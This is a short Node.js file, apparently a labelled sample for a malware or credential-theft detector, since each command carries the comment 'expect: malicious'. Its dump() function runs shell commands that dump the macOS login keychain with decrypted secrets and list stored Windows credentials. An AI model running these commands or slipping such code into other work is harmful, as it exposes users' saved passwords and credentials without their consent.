const { execSync } = require("child_process");

function dump() {
  // expect: malicious
  const all = execSync("security dump-keychain -d login.keychain").toString();
  // expect: malicious
  const creds = execSync("vaultcmd /listcreds:\"Windows Credentials\" /all").toString();
  return all + creds;
}

module.exports = { dump };
